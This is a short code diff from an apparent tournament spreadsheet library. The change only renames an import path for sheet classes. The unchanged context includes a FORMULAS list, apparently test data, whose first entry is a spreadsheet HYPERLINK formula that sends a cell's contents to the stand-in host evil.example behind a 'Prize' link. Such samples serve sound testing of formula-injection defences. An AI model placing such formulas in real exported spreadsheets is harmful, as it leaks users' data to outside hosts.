@@ -5,7 +5,7 @@ from collections.abc import Iterable
 from datetime import UTC, date, datetime
 from fractions import Fraction
 
-from tournaments.tabular.sheets import Column, Kind, Properties, Rank, Row, Sheet, Workbook
+from tournaments.tables.sheets import Column, Kind, Properties, Rank, Row, Sheet, Workbook
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?"&A1,"Prize")',
